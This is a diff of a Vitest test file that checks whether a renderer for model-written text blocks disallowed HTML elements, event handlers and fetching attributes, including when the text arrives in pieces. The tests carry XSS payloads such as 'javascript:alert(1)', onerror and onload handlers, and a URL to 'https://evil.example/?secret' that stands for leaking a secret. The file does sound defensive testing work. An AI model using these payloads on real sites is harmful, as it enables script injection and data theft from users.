@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { pieces } from './documents';
 import { draw } from './drawing';
 
 const elements = (
@@ -130,12 +131,12 @@ function dangers(root: HTMLElement): string[] {
   });
 }
 
-/** Draws a text whole, letter by letter and inside other blocks. */
-function everyWay(text: string): HTMLElement[] {
+/** Draws a text whole, in so many steps or letter by letter if it is shorter, and inside other blocks. */
+function everyWay(text: string, steps = 80): HTMLElement[] {
   const nested = text.replaceAll('\n', '\n  ');
   return [
     draw([text]),
-    draw(text.split('')),
+    draw(pieces(text, [Math.ceil(text.length / steps)])),
     draw([`before ${text} after`]),
     draw([`- ${nested}\n\n  ${nested}`]),
     draw([`> ${text.replaceAll('\n', '\n> ')}`]),
@@ -144,17 +145,15 @@ function everyWay(text: string): HTMLElement[] {
   ];
 }
 
-function expectSafe(text: string): void {
-  for (const root of everyWay(text)) expect(dangers(root), text).toEqual([]);
+function expectSafe(text: string, steps?: number): void {
+  for (const root of everyWay(text, steps)) expect(dangers(root), text).toEqual([]);
 }
 
 describe('what a model writes', () => {
   it('never becomes an element that is not on the list', () => {
     for (const name of elements) {
-      expectSafe(`<${name}>inside</${name}>`);
-      expectSafe(
-        `<${name} src=https://evil.example href=javascript:alert(1) onload=alert(1) onerror=alert(1)>`,
-      );
+      const attributes = 'src=https://evil.example href=javascript:alert(1) onload=alert(1) onerror=alert(1)';
+      expectSafe(`<${name}>inside</${name}> <${name} ${attributes}>`, 4);
     }
   }, 120_000);
 
@@ -162,8 +161,8 @@ describe('what a model writes', () => {
     'never gets an event handler on <%s>',
     (name) => {
       const attributes = handlers.map((handler) => `${handler}="alert(1)"`).join(' ');
-      expectSafe(`<${name} ${attributes}>x</${name}>`);
-      expectSafe(`<${name}/${handlers.map((handler) => `${handler}=alert(1)`).join('/')}>`);
+      expectSafe(`<${name} ${attributes}>x</${name}>`, 8);
+      expectSafe(`<${name}/${handlers.map((handler) => `${handler}=alert(1)`).join('/')}>`, 8);
     },
   );
 
@@ -173,6 +172,7 @@ describe('what a model writes', () => {
       for (const attribute of fetching.split(' ')) {
         expectSafe(
           `<${name} ${attribute}="https://evil.example/?secret" style="color:red" id=x name=y>x</${name}>`,
+          8,
         );
       }
     },
@@ -200,7 +200,7 @@ describe('what a model writes', () => {
     }
   });
 
-  it.each(mutations)('stays harmless: %j', expectSafe);
+  it.each(mutations)('stays harmless: %j', (text) => expectSafe(text));
 
   it('keeps links that lead out', () => {
     const root = draw([
